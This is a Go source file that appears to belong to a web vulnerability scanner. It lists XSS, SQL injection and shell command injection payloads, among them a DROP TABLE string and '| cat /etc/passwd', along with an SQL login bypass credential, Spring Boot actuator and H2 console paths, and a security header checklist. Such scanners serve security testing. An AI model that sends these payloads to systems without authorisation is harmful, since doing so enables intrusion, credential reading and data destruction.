package scanner

// XSSPayloads are reflected-XSS markers; only the first three are sent
var XSSPayloads = []string{
	`<script>alert("XSS")</script>`,
	`<img src=x onerror=alert("XSS")>`,
	`"><script>alert(1)</script>`,
	`javascript:alert("XSS")`,
	`<svg onload=alert("XSS")>`,
	`<body onload=alert("XSS")>`,
}

// SQLPayloads are injection strings; only the first three are sent
var SQLPayloads = []string{
	"' OR '1'='1",
	"' OR 1=1--",
	"' UNION SELECT NULL--",
	"'; DROP TABLE users;--",
	"' OR SLEEP(5)--",
	"' AND 1=CONVERT(int, (SELECT @@version))--",
}

// CommandInjectionPayloads are shell metacharacter strings
var CommandInjectionPayloads = []string{
	"; ls -la",
	"| cat /etc/passwd",
	"`id`",
	"$(whoami)",
	"; ping -c 5 127.0.0.1",
}

// payloadsPerTarget is how many XSS/SQL payloads are tried per URL
const payloadsPerTarget = 3

// SensitiveEndpoints are Spring Boot management and API documentation paths
var SensitiveEndpoints = []string{
	"/actuator",
	"/actuator/health",
	"/actuator/env",
	"/actuator/metrics",
	"/actuator/beans",
	"/actuator/mappings",
	"/actuator/configprops",
	"/h2-console",
	"/swagger-ui.html",
	"/v2/api-docs",
	"/graphql",
	"/api-docs",
}

// XSSTargets are query URL templates, appended to the base URL
var XSSTargets = []string{
	"/api/search?q=",
	"/api/users?name=",
	"/api/products?search=",
}

// SQLTargets receive the payload as the q parameter
var SQLTargets = []string{
	"/api/search",
	"/api/users",
	"/api/products",
}

// Login bypass request
const (
	LoginPath          = "/api/login"
	LoginBypassUser    = "admin' OR '1'='1"
	LoginBypassPass    = "anything"
	loginSuccessMarker = "token"
)

// SQLErrorIndicators are matched against the lower-cased response body
var SQLErrorIndicators = []string{
	"sql",
	"syntax",
	"database",
	"mysql",
	"postgresql",
	"oracle",
}

// CommandInjectionTargets receive {"filename": payload}
var CommandInjectionTargets = []string{
	"/api/export",
	"/api/download",
	"/api/upload",
	"/api/execute",
}

// SecurityHeader is a response header browsers rely on
type SecurityHeader struct {
	Name        string
	Description string
}

// RequiredSecurityHeaders in reporting order
var RequiredSecurityHeaders = []SecurityHeader{
	{"Content-Security-Policy", "Prevents XSS and injection attacks"},
	{"X-Content-Type-Options", "nosniff"},
	{"X-Frame-Options", "DENY or SAMEORIGIN"},
	{"Strict-Transport-Security", "Enforces HTTPS"},
	{"X-XSS-Protection", "1; mode=block"},
}
